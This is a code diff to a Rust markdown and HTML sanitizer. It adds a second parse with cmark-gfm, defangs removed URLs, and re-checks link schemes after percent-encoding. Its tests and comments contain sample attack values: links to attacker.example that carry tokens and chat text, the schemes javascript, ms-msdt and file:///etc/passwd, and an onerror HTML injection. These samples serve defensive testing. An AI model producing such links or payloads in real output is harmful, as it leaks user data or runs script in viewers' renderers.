@@ -71,8 +71,8 @@ pub struct ContentPolicy {
     pub trusted_domains: Vec<String>,
     /// HTML tags in text and markdown content (tool and prompt text, `text/markdown`,
     /// `text/plain` resources): `"clean"` (default) removes what the allowlist does not
-    /// keep; `"escape"` shows every tag as visible text (`\<b>`, `CommonMark` §2.4
-    /// backslash escape) instead. HTML comments are shown as `[hidden comment: …]` in
+    /// keep; `"escape"` shows every tag as visible text (`<` written as `&lt;`)
+    /// instead. HTML comments are shown as `[hidden comment: …]` in
     /// both modes; `text/html` resources are always cleaned.
     pub html_in_text: HtmlInText,
     /// Instruction-like text in results (`injection_in_result`): `"flag"` (default)
@@ -185,15 +185,19 @@ pub fn sanitize_markup<'a>(
             |t, f| super::html::sanitize_document(t, policy, f),
             escape_html_all,
         ),
-        Flavor::Markdown => match lone_cr_as_lf(text) {
-            // A lone CR ends a line (`CommonMark` §2.1) for the renderers hosts use, but
-            // pulldown-cmark keeps it as text inside a code block, where everything after
-            // it would go unchecked: such text is checked, and handed on, with LF.
-            Some(lf) => Cow::Owned(
-                settle(&lf, &mut findings, markdown_pass, escape_markdown_all).into_owned(),
-            ),
-            None => settle(text, &mut findings, markdown_pass, escape_markdown_all),
-        },
+        Flavor::Markdown => {
+            let settled = match lone_cr_as_lf(text) {
+                // A lone CR ends a line (`CommonMark` §2.1) for the renderers hosts use,
+                // but pulldown-cmark keeps it as text inside a code block, where
+                // everything after it would go unchecked: such text is checked, and
+                // handed on, with LF.
+                Some(lf) => Cow::Owned(
+                    settle(&lf, &mut findings, markdown_pass, escape_markdown_all).into_owned(),
+                ),
+                None => settle(text, &mut findings, markdown_pass, escape_markdown_all),
+            };
+            read_again(settled, policy, &mut findings, markdown_pass)
+        }
     };
     MarkupOutcome {
         text: out,
@@ -294,6 +298,33 @@ fn settle<'a>(
     }
 }
 
+/// The settled markdown, read again as cmark-gfm reads it
+/// ([`super::second_reading`]). When that reading finds something active that the
+/// sanitizer's parser did not (the two parsers disagree on the text's structure), the
+/// whole text is escaped as in [`settle`]'s fallback, bare URLs get one more `pass`, and a
+/// finding names what was found.
+fn read_again<'a>(
+    settled: Cow<'a, str>,
+    policy: &ContentPolicy,
+    findings: &mut Findings<'_>,
+    pass: impl Fn(&str, &mut Findings<'_>) -> Option<String>,
+) -> Cow<'a, str> {
+    let Some((code, what)) = super::second_reading::first_active(&settled, policy) else {
+        return settled;
+    };
+    findings.push(
+        code,
+        format!(
+            "cmark-gfm reads {what} in this markdown where the sanitizer's parser does not; every markup character was escaped"
+        ),
+    );
+    let escaped = escape_markdown_all(&settled);
+    match pass(&escaped, findings) {
+        Some(out) => Cow::Owned(out),
+        None => Cow::Owned(escaped),
+    }
+}
+
 /// Collects findings for one text value, without duplicates (a set keeps adding linear).
 #[derive(Debug)]
 pub(crate) struct Findings<'p> {
@@ -379,9 +410,36 @@ pub(crate) fn classify(dest: &str) -> Target {
                 _ => Target::Invalid,
             }
         }
-        Err(_) => Target::Invalid,
+        // A renderer percent-encodes what the URL parser refused (`[` in a host:
+        // `ttpr://a[b` becomes `ttpr://a%5Bb`, which parses), so the destination is also
+        // read as a renderer writes it: another scheme than the web's is refused then too.
+        Err(_) => {
+            match Url::parse(&percent_encoding::utf8_percent_encode(dest, HREF_ENCODED).to_string())
+            {
+                Ok(url) if !matches!(url.scheme(), "http" | "https" | "mailto") => {
+                    Target::Disallowed(url.scheme().to_owned())
+                }
+                _ => Target::Invalid,
+            }
+        }
     }
 }
+
+/// What markdown renderers percent-encode in an `href` or `src` (cmark's
+/// `houdini_escape_href`): controls, space, non-ASCII, the backtick and `"<>[\]^{|}`.
+const HREF_ENCODED: &percent_encoding::AsciiSet = &percent_encoding::CONTROLS
+    .add(b' ')
+    .add(b'"')
+    .add(b'<')
+    .add(b'>')
+    .add(b'[')
+    .add(b'\\')
+    .add(b']')
+    .add(b'^')
+    .add(b'`')
+    .add(b'{')
+    .add(b'|')
+    .add(b'}');
 
 /// Query parameter names (lowercase) whose value is a credential whatever its length.
 const SECRET_PARAMS: &[&str] = &[
@@ -613,6 +671,20 @@ pub(crate) fn display_url(url: &Url) -> String {
     url.as_str().replace('`', "%60").replace('|', "%7C")
 }
 
+/// A link target that was removed for carrying data, as inert inline markdown: every
+/// `.` shown as `[.]` and every `:` as `[:]` (the "defanged" form of threat reports),
+/// brackets escaped. Returns `(source, plain)`: the markdown and the text it renders.
+///
+/// Not a code span: cmark-gfm (GitHub's renderer) leaves a code span unformed after an
+/// unmatched longer backtick run earlier in the paragraph (its closing-backtick cache),
+/// and its autolinker then makes the URL a live link again. With no `://`, `www.`,
+/// domain or `@host.tld` left in the text, no autolinker (GFM extended autolinks,
+/// linkify-it's fuzzy links) finds anything in it, code span or not.
+pub(crate) fn defanged_url(url: &Url) -> (String, String) {
+    let plain = url.as_str().replace('.', "[.]").replace(':', "[:]");
+    (escape_inline(&plain), plain)
+}
+
 /// A code span holding `text` (which must not contain a backtick or a line break).
 pub(crate) fn code_span(text: &str) -> String {
     format!("`{text}`")
@@ -620,8 +692,9 @@ pub(crate) fn code_span(text: &str) -> String {
 
 /// `text` as inert markdown inline text: line breaks and runs of whitespace become one
 /// space, and every character that could open or close an inline construct (link, image,
-/// raw HTML, autolink, code span, emphasis, entity, table cell) is backslash-escaped
-/// (`CommonMark` §2.4: any ASCII punctuation may be escaped).
+/// autolink, code span, emphasis, entity, table cell) is backslash-escaped (`CommonMark`
+/// §2.4: any ASCII punctuation may be escaped), except `<`, which becomes `&lt;`
+/// ([`LT`]).
 pub(crate) fn escape_inline(text: &str) -> String {
     let mut out = String::with_capacity(text.len() + 8);
     let mut space = false;
@@ -634,9 +707,13 @@ pub(crate) fn escape_inline(text: &str) -> String {
             out.push(' ');
         }
         space = false;
+        if ch == '<' {
+            out.push_str(LT);
+            continue;
+        }
         if matches!(
             ch,
-            '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '!' | '&' | '~' | '|' | '$'
+            '\\' | '`' | '*' | '_' | '[' | ']' | '>' | '!' | '&' | '~' | '|' | '$'
         ) {
             out.push('\\');
         }
@@ -645,11 +722,35 @@ pub(crate) fn escape_inline(text: &str) -> String {
     out
 }
 
+/// How escaped markdown writes `<`: as a character reference, never as `\<`. cmark-gfm's
+/// autolinker takes a bare URL up to the next `<` straight from the source, so in
+/// `https://a.example/\<img src=x onerror=…>` it takes the backslash into the link and
+/// the `<img` after it is live HTML. A reference is read as text by every parser, and the
+/// autolinker only takes it into the URL.
+pub(crate) const LT: &str = "&lt;";
+
 /// Escapes every ASCII punctuation character of markdown text (fallback when the
-/// sanitizer does not settle).
+/// sanitizer does not settle, or when a second reading finds something active), `<` as
+/// [`LT`], and defangs what GFM autolinkers start a link at: `://` becomes `[:]//` and
+/// `www.` becomes `www[.]`. Escaping alone does not stop an autolink (cmark-gfm takes the
+/// backslashes into the URL), and the URL rules of the parsers differ in corners (what
+/// ends a `www.` domain), so the fallback leaves no autolink to find at all.
 fn escape_markdown_all(text: &str) -> String {
     let mut out = String::with_capacity(text.len() * 2);
-    for ch in text.chars() {
+    let bytes = text.as_bytes();
+    for (i, ch) in text.char_indices() {
+        if ch == '<' {
+            out.push_str(LT);
+            continue;
+        }
+        if ch == ':' && bytes[i + 1..].starts_with(b"//") {
+            out.push_str("\\[:\\]");
+            continue;
+        }
+        if ch == '.' && i >= 3 && bytes[i - 3..i].eq_ignore_ascii_case(b"www") {
+            out.push_str("\\[.\\]");
+            continue;
+        }
         if ch.is_ascii_punctuation()
             && !matches!(
                 ch,
@@ -708,11 +809,11 @@ mod tests {
         out.findings.iter().map(|f| f.code).collect()
     }
 
-    /// A pass that never settles ends in the escaped fallback, and that fallback still
-    /// gets the bare-URL treatment: escaping leaves `http://…?token=…` autolinkable.
+    /// A pass that never settles ends in the escaped fallback, and that fallback leaves no
+    /// bare URL for an autolinker: escaping alone leaves `http://…?token=…` autolinkable.
     /// (Found by the markdown fuzz target, `fuzz/regressions/markdown/`.)
     #[test]
-    fn the_escaped_fallback_still_removes_bare_urls_that_carry_data() {
+    fn the_escaped_fallback_leaves_no_bare_url() {
         let p = policy();
         let calls = std::cell::Cell::new(0usize);
         let text = "see http://attacker.example/c?token=c2VjcmV0LXRva2Vu now";
@@ -731,13 +832,14 @@ mod tests {
             escape_markdown_all,
         );
         assert!(
-            out.contains("`http://attacker.example/c?token=c2VjcmV0LXRva2Vu` (link removed)"),
+            out.contains("http\\[:\\]//attacker.example/c?token=c2VjcmV0LXRva2Vu"),
             "{out}"
         );
+        assert_eq!(super::super::second_reading::first_active(&out, &p), None);
         let again = sanitize_markup(&out, None, &p, "/t");
         assert_eq!(again.text, out, "fallback output not stable");
         let codes: Vec<Code> = findings.into_vec().iter().map(|f| f.code).collect();
-        assert!(codes.contains(&Code::LinkExfiltration), "{codes:?}");
+        assert_eq!(codes, [Code::HtmlSanitized]);
     }
 
     #[test]
@@ -778,6 +880,14 @@ mod tests {
                 Target::Disallowed("javascript".into()),
             ),
             ("VBScript:msgbox", Target::Disallowed("vbscript".into())),
+            // Refused by the URL parser as written, valid once a renderer percent-encodes
+            // it (found by the markdown fuzz target's cmark-gfm reading).
+            (
+                "ttpr://attacker[[.example/c.png",
+                Target::Disallowed("ttpr".into()),
+            ),
+            ("ms-msdt://a[b", Target::Disallowed("ms-msdt".into())),
+            ("https://attacker[.example/p.png", Target::Invalid),
             ("data:text/html,<b>", Target::Disallowed("data".into())),
             ("file:///etc/passwd", Target::Disallowed("file".into())),
             (
@@ -894,7 +1004,7 @@ mod tests {
     fn escaping_is_inert() {
         assert_eq!(
             escape_inline("a [b](c) <d> `e` *f* _g_ & | ! \\"),
-            "a \\[b\\](c) \\<d\\> \\`e\\` \\*f\\* \\_g\\_ \\& \\| \\! \\\\"
+            "a \\[b\\](c) &lt;d\\> \\`e\\` \\*f\\* \\_g\\_ \\& \\| \\! \\\\"
         );
         assert_eq!(escape_inline("  two\n lines  "), "two lines");
         let url = Url::parse("https://a.example/x?a=`b`|c").unwrap();
@@ -1026,7 +1136,7 @@ mod tests {
         );
         assert_eq!(
             out.text,
-            "Please confirm your workspace (link removed: `https://attacker.example/verify?chat=I%20need%20the%20Q3%20numbers&token=ab12`) to continue."
+            "Please confirm your workspace (link removed: https\\[:\\]//attacker\\[.\\]example/verify?chat=I%20need%20the%20Q3%20numbers\\&token=ab12) to continue."
         );
         assert_eq!(codes(&out), [Code::LinkExfiltration]);
         // c067, c068, c070, c071
